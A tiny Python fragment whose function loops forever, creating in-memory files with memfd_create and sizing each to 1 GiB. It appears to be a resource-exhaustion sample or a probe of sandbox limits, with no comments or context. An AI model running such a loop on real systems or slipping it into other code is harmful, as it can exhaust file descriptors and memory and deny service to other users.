import os


def f(n):
    while True:
        os.truncate(os.memfd_create("x"), 1 << 30)
